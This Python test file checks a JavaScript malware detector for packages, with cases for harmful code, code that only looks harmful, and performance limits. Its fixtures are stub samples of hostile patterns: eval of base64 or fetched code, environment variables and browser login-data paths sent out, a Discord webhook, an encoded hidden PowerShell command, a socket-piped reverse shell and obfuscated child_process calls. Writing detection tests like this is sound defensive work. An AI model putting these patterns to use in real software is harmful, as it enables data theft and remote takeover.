"""JavaScript that does harm, and JavaScript that only looks like it."""

from __future__ import annotations

import random
import time

import pytest

from detectors.software import javascript
from detectors.software.budget import PROFILES, Budget
from detectors.software.facts import Evidence, Use
from detectors.software.unpack import Node


def look(source: str | bytes, path: str = "package/lib/a.js"):
    content = source if isinstance(source, bytes) else source.encode()
    budget = Budget(PROFILES["package"], lambda: 0.0)
    return list(javascript.look(Node(path, memoryview(content), "javascript", 1), budget)), budget.limits


def rules(source: str | bytes, path: str = "package/lib/a.js") -> dict[str, int]:
    """Rules and the first line of each."""
    out: dict[str, int] = {}
    for e in look(source, path)[0]:
        if isinstance(e, Evidence):
            out.setdefault(e.rule.removeprefix("javascript."), e.line)
    return out


HARMFUL = {
    "exec-decoded": "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n",
    "exec-fetched": "const axios = require('axios')\n\naxios.get('https://x.example').then(r => { eval(r.data) })\n"
                    "const got = fetch('u')\nnew Function(got)()\n",
    "fetch-and-run": "const {exec} = require('child_process'), https = require('https')\n"
                     "function f() { https.get('u', r => 0); exec('x') }\n",
    "host-sent": "import os from 'node:os'\nexport function f() { fetch('u', {body: os.hostname()}) }\n",
    "environment-sent": "require('https').request('u').end(JSON.stringify(process.env))\n",
    "stores": "const p = '/Chrome/User Data/Default/Login Data'\nfetch('u', {body: p})\n",
    "drop": "const u = `https://discord.com/api/webhooks/1/x`\n",
    "shell": "const c = 'powershell -WindowStyle Hidden -enc SQBFAFgA'\n",
    "program-url": "let u = 'http://x.example/payload.exe'\n",
    "bare-address": "let u = 'http://203.0.113.7/x'\n",
    "blob": f"var x = '{'QUJD' * 300}'\n",
    "mangled": "\n".join(f"var _0x{i:06x} = {i};" for i in range(9)),
    "aside": "let a = 1" + " " * 200 + ";require('child_process').exec('x')\n",
    "capture-sent": "const c = require('clipboardy')\nfetch('u', {body: c.readSync()})\n",
    "hidden-name": "globalThis['ev' + 'al'](x)\n",
    "module-process": "require('child_process').execSync('x')\n",
    "module-network": "fetch('u')\n",
    "reverse-shell": "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []);\n"
                     "const c = new net.Socket(); c.pipe(sh.stdin)\n",
}  # fmt: skip


@pytest.mark.parametrize("rule", HARMFUL)
def test_what_does_harm_is_found(rule):
    assert rule in rules(HARMFUL[rule])


@pytest.mark.parametrize(("rule", "source"), [
    ("install-process", "require('child_process').exec('x')\n"), ("install-network", "fetch('u')\n"),
    ("install-decoded", "const x = atob('eA==')\n"),
])  # fmt: skip
def test_what_runs_at_installation_is_told_apart_from_what_a_module_offers(rule, source):
    assert rule in rules(source, "p-1.tgz!/p-1.tar!/package/scripts/postinstall.js")
    assert rule not in rules(source)


def test_what_runs_when_the_package_is_loaded_is_told_apart_from_what_is_called():
    at_once = ("{}", "(function () {{ {} }})()", "(() => {{ {} }})()", "const go = () => {{ {} }}; go()",
               "Promise.resolve().then(() => {{ {} }})", "setTimeout(function () {{ {} }}, 9)",
               "!function(){{ {} }}()")  # fmt: skip
    for form in at_once:
        assert "import-network" in rules(form.format("fetch('u')"), "p.tgz!/package/index.js"), form
    for form in ("function f() {{ {} }}", "module.exports = () => {{ {} }}", "app.get('/', () => {{ {} }})",
                 "class A {{ go() {{ {} }} }}"):  # fmt: skip
        assert rules(form.format("fetch('u')"), "p.tgz!/package/index.js") == {}, form


@pytest.mark.parametrize("source", [
    "import {execSync as go} from 'node:child_process'; go('x')",
    "import * as cp from 'child_process'; cp.spawn('x')",
    "const {spawn: s} = require('child_process'); s('x')",
    "const cp = require('child_' + 'process'); cp['ex' + 'ec']('x')",
    "(0, require('child_process').exec)('x')",
    "process.mainModule.require('child_process').exec('x')",
    "const a = require('child_process'); const b = a; b.exec('x')",
    "(await import('child_process')).exec('x')",
])  # fmt: skip
def test_other_names_and_detours_hide_nothing(source):
    assert "module-process" in rules(source)


@pytest.mark.parametrize("source", [
    "// eval(atob('eA=='))\n/* eval(atob('eA==')) */\n",
    "const x = Buffer.from(a); const re = /x/.exec(b); db.exec('select 1')\n",
    "function f(x) { return atob(x) }\n",
    "const s = 'a sentence of words that people read '\n",
    "obj.eval('x'); const fetcher = fetchers.get('x')\n",
    "export const get = u => fetch(u)\n", "const u = 'http://127.0.0.1:8000/'\n",
    "const env = {...process.env, A: 1}\n",
    "function a(){var e=fetch('u');return e}function b(e){return new Function(e)}\n",
])  # fmt: skip
def test_what_only_looks_like_it_is_nothing(source):
    assert rules(source) == {}


def test_functions_of_required_modules_are_told_with_their_moment():
    found, _ = look("const fs = require('fs')\nfs.readFileSync('a')\nfunction f() { fs.writeFileSync('b') }\n"
                    "foo.bar()\n", "p.tgz!/package/index.js")  # fmt: skip
    assert [(u.when, u.name, u.line) for u in found if isinstance(u, Use)] == [
        ("import", "fs.readFileSync", 2), ("later", "fs.writeFileSync", 3)]  # fmt: skip


def test_harm_in_a_bundle_of_megabytes_is_found_in_time_with_its_line():
    honest = "function a(b,c){return b.map(function(d){return d+c})}var e={f:1,g:'h'};\n"
    lines = (10 << 20) // len(honest)
    source = honest * (lines // 2) + HARMFUL["exec-decoded"] + honest * (lines // 2)
    began = time.monotonic()
    assert rules(source) == {"exec-decoded": lines // 2 + 1}
    assert time.monotonic() - began < 5
    assert look(source)[1] == []


def test_noise_and_deep_code_end_in_time():
    began = time.monotonic()
    look(random.Random(1).randbytes(2 << 20).replace(b"\0", b"x"))
    assert time.monotonic() - began < 6
    for deep in ("x = " + "(" * 5000 + "1" + ")" * 5000, "a" + ".b" * 3000 + "()", "[" * 9000, "f(" * 9000):
        found, limits = look(deep + ";\n" + HARMFUL["exec-decoded"])
        assert limits or found is not None


def test_a_program_of_six_signs_is_mangled():
    assert "mangled" in rules("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]" * 30)
